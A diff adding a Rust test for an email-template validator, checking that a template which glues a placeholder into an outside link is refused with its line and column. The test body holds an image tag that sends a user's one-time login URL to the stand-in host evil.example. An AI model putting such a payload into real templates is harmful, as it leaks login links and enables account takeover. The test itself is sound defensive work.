@@ -47,6 +47,15 @@ on_both! {
         assert_eq!(statuses, [200, 412]);
     }
 
+    async fn a_link_that_something_is_glued_to_is_refused(app: TestApp) {
+        let administrator = app.administrator().await;
+        let body = "Hej\n<img src=\"http://evil.example/?x=[user:one-time-login-url]\">\n[site:login-url]";
+        let answer = administrator.put("/email-templates/welcome", 0, &json!({"subject": "x", "body": body})).await;
+        answer.expect_fields(&[("/body", "link_field_glued")]);
+        let error = answer.expect(422)["errors"][0].clone();
+        assert_eq!((&error["line"], &error["column"]), (&json!(2), &json!(34)));
+    }
+
     async fn everything_wrong_is_told_at_once_with_its_place(app: TestApp) {
         let administrator = app.administrator().await;
         let broken = json!({"subject": "Hej [user:nmae]", "body": "Kære\n  [user:full-nam]\n[site:name og [user:one-time-login-url"});
